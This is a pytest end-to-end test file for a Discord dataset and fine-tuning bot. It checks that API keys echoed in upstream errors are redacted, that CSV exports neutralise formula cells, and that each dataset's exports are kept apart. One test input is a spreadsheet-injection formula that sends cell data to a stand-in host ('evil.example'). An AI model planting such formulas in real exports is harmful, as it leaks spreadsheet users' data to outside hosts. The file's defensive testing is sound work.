"""Security and data-safety findings, end to end: upstream error text that echoes the API key never reaches a
member, the channel or the database (the log keeps it); CSV exports cannot carry spreadsheet formulas; a
dataset's exports are its own (``/dataset archive faq`` leaves ``faq-v2``'s, ``x`` and ``x.`` never share a
file)."""

from __future__ import annotations

import csv
import io
import json
import logging
import zipfile
from typing import TYPE_CHECKING, Any

import pytest
import pytest_asyncio
from pydantic import SecretStr
from sqlalchemy import select

from hypotez.storage.models import JobEvent, TrainingJob
from tests.conftest import running_hypotez
from tests.e2e.test_datasets import area_of, jsonl, said, sent_files, upload
from tests.e2e.test_training_openai import seed_corrections
from tests.fakes.interactions import ADMIN_MEMBER, CHANNEL_ID, GUILD_ID, slash

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from hypotez.config import Settings
    from tests.conftest import RunningBot
    from tests.fakes.openai_api import FakeOpenAI

#: A configured key that looks like no known key format: only knowing the key itself can redact it.
PLAIN_KEY = "plainKeyValue-7f3a"
BEARER = "Bearer tok_0123456789abcdefABCDEF0123456789"
ECHO = f"Bad header echoed: Authorization: Bearer {PLAIN_KEY}; key {PLAIN_KEY}; forwarded {BEARER}."
LEAKS = (PLAIN_KEY, "tok_0123456789abcdef")


@pytest_asyncio.fixture
async def keyed(bot_settings: Settings, openai_fake: FakeOpenAI) -> AsyncIterator[RunningBot]:
    """The bot with :data:`PLAIN_KEY` as its API key (the stand-in accepts only that one)."""
    openai_fake.api_key = PLAIN_KEY
    settings = bot_settings.model_copy(update={"openai_api_key": SecretStr(PLAIN_KEY)})
    async with running_hypotez(settings, openai_fake) as running:
        yield running


def everything_sent(hz: RunningBot) -> str:
    """Every request the bot made to Discord: replies, follow-ups, status messages, channel notices."""
    return "\n".join(json.dumps(c.json, ensure_ascii=False) for c in hz.rest.calls if c.json is not None)


def assert_no_leak(text: str) -> None:
    for leak in LEAKS:
        assert leak not in text


async def stored_job_texts(hz: RunningBot) -> str:
    async with hz.services.db.session() as session:
        jobs = (await session.scalars(select(TrainingJob))).all()
        events = (await session.scalars(select(JobEvent))).all()
    return "\n".join([*(j.error or "" for j in jobs), *(e.message for e in events)])


# ------------------------------------------------------------------------------------------ upstream errors


@pytest.mark.asyncio
async def test_a_failed_fine_tuning_job_never_shows_or_stores_the_echoed_key(
    keyed: RunningBot, caplog: pytest.LogCaptureFixture
) -> None:
    hz = keyed
    await seed_corrections(hz.services, 10)
    await hz.send(slash("train", {"dataset": "corrections", "trainer": "openai"}, user=ADMIN_MEMBER))
    async with hz.services.db.session() as session:
        job = (await session.scalars(select(TrainingJob))).one()
    assert job.external_id is not None
    hz.openai.advance_job(job.external_id, to="failed", error={"code": "invalid_request", "message": ECHO})
    with caplog.at_level(logging.WARNING):
        for _ in range(5):
            await hz.services.jobs.poll_once()
    job = await hz.services.jobs.get(job.id)
    assert job.status == "failed"
    assert job.error is not None
    assert "Bad header echoed" in job.error  # the reason itself is kept, only the secrets are cut out
    assert "[redacted]" in job.error
    assert_no_leak(await stored_job_texts(hz))
    sent = everything_sent(hz)
    notices = [str((c.json or {}).get("content")) for c in hz.rest.calls_to("POST", f"/channels/{CHANNEL_ID}/messages")]
    assert any(f"training job #{job.id} failed: Bad header echoed" in n for n in notices)
    assert_no_leak(sent)
    assert PLAIN_KEY in caplog.text  # the full reason is in the log, for the operator


@pytest.mark.asyncio
async def test_a_refused_fine_tuning_request_never_shows_or_stores_the_echoed_key(keyed: RunningBot) -> None:
    hz = keyed
    await seed_corrections(hz.services, 10)
    hz.openai.fail_next(400, message=ECHO, path_contains="/fine_tuning/jobs", times=5)
    result = await hz.send(slash("train", {"dataset": "corrections", "trainer": "openai"}, user=ADMIN_MEMBER))
    assert "The fine-tuning service refused the job: Bad header echoed" in everything_sent(hz)
    assert "[redacted]" in said(result)
    assert_no_leak(everything_sent(hz))
    async with hz.services.db.session() as session:
        job = (await session.scalars(select(TrainingJob))).one()
    assert job.status == "failed"
    assert_no_leak(await stored_job_texts(hz))


@pytest.mark.asyncio
async def test_a_chat_error_echoing_the_key_is_not_shown(keyed: RunningBot) -> None:
    hz = keyed
    hz.openai.fail_next(400, message=ECHO, path_contains="chat/completions", times=5)
    await hz.send(slash("chat", {"message": "Hello?"}))
    sent = everything_sent(hz)
    assert sent  # the member was answered
    assert_no_leak(sent)


# ------------------------------------------------------------------------------------------------ CSV export


@pytest.mark.asyncio
async def test_csv_export_neutralises_formula_cells(hz: RunningBot) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    lines = [
        {"messages": [{"role": "user", "content": formula}, {"role": "assistant", "content": "+1 and more"}]},
        {"messages": [{"role": "user", "content": "@SUM(A1)"}, {"role": "assistant", "content": "-2"}]},
        {"messages": [{"role": "user", "content": "\tTabbed"}, {"role": "assistant", "content": "plain"}]},
    ]
    await upload(hz, "evil.jsonl", jsonl(lines), name="evil")
    exported = await hz.send(
        slash("dataset", {"name": "evil", "format": "csv"}, subcommand="export", user=ADMIN_MEMBER)
    )
    [file] = sent_files(exported)
    text = file.content.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [(r["prompt"], r["completion"]) for r in rows]
    assert ("'" + formula, "'+1 and more") in cells
    assert ("'@SUM(A1)", "'-2") in cells
    assert ("'\tTabbed", "plain") in cells
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # Every field is quoted: no cell can start a formula however the spreadsheet splits the line.
    for line in text.splitlines()[1:]:
        if line:
            assert line.startswith('"')

    # The export imports back as it was: the neutralising quote is taken off again.
    back = await upload(hz, "evil.csv", file.content, name="evil-again")
    assert "Imported 3 examples" in said(back)
    dataset = await hz.services.datasets.resolve(GUILD_ID, "evil-again")
    turns = sorted(
        (e.messages[-2]["content"], e.messages[-1]["content"]) for e in await hz.services.datasets.examples(dataset.id)
    )
    assert turns == sorted([(formula, "+1 and more"), ("@SUM(A1)", "-2"), ("\tTabbed", "plain")])


# --------------------------------------------------------------------------------- exports belong by id


@pytest.mark.asyncio
async def test_archiving_a_dataset_leaves_another_datasets_exports(hz: RunningBot) -> None:
    chat = [{"messages": [{"role": "user", "content": "Q?"}, {"role": "assistant", "content": "A."}]}]
    await upload(hz, "faq.jsonl", jsonl(chat), name="faq")
    await upload(hz, "faq2.jsonl", jsonl([{"prompt": "Other?", "completion": "Yes."}]), name="faq-v2")
    for name in ("faq", "faq-v2"):
        await hz.send(slash("dataset", {"name": name}, subcommand="export", user=ADMIN_MEMBER))
    exports = area_of(hz) / "exports"
    theirs = exports / "faq-v2-v1.openai-chat.jsonl"
    mine = exports / "faq-v1.openai-chat.jsonl"
    assert theirs.is_file()
    assert mine.is_file()

    result = await hz.send(slash("dataset", {"name": "faq"}, subcommand="archive", user=ADMIN_MEMBER))
    assert "Archived `faq`" in said(result)
    assert theirs.is_file(), "faq-v2's export was deleted by archiving faq"
    assert not mine.exists()
    [archive] = list((area_of(hz) / "archive").glob("*.zip"))
    with zipfile.ZipFile(archive) as zf:
        manifest: dict[str, Any] = json.loads(zf.read("manifest.json"))
    exported = sorted(f["path"] for f in manifest["files"] if f["path"].startswith("exports/"))
    assert exported == ["exports/faq-v1.openai-chat.jsonl"]


@pytest.mark.asyncio
async def test_datasets_whose_names_reduce_alike_export_to_different_files(hz: RunningBot) -> None:
    await upload(hz, "x.jsonl", jsonl([{"prompt": "Plain x?", "completion": "x."}]), name="x")
    await upload(hz, "xdot.jsonl", jsonl([{"prompt": "Dotted x?", "completion": "x dot."}]), name="x.")
    first = await hz.send(slash("dataset", {"name": "x", "format": "csv"}, subcommand="export", user=ADMIN_MEMBER))
    second = await hz.send(slash("dataset", {"name": "x.", "format": "csv"}, subcommand="export", user=ADMIN_MEMBER))
    [plain] = sent_files(first)
    [dotted] = sent_files(second)
    assert plain.filename != dotted.filename
    files = sorted((area_of(hz) / "exports").iterdir())
    assert len(files) == 2
    contents = {p.name: p.read_text(encoding="utf-8") for p in files}
    assert "Plain x?" in contents[plain.filename]
    assert "Dotted x?" in contents[dotted.filename]

    # Archiving `x.` takes its own export only, and `x` keeps its file.
    await hz.send(slash("dataset", {"name": "x."}, subcommand="archive", user=ADMIN_MEMBER))
    left = sorted(p.name for p in (area_of(hz) / "exports").iterdir())
    assert left == [plain.filename]
